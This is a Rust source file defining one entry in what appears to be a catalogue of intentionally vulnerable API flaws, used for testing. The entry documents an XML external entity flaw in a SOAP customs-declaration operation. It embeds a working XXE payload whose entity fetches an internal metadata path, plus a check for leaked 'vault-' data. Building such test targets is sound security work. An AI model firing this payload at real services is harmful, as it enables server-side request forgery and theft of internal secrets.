use crate::{
    flaws::{FlawItem, Protocol},
    proof::{Expect::Has, raw},
};

/// An external entity reads from inside the network.
pub(crate) static FLAW: FlawItem = FlawItem {
    id: "xml-external-entity",
    title: "An external entity reads from inside the network",
    owasp: "API7:2023",
    cwe: 611,
    protocol: Protocol::Soap,
    operation: "LodgeDeclaration",
    what: "Entities with an address are fetched.",
    proof: &[raw("ada", "/soap", "text/xml; charset=utf-8", r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${origin}/_internal/metadata">]><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:q="urn:quayside:customs"><s:Body><q:LodgeDeclaration><goods>&e;</goods><value>1</value></q:LodgeDeclaration></s:Body></s:Envelope>"#).shows(&[Has("vault-")])],
};
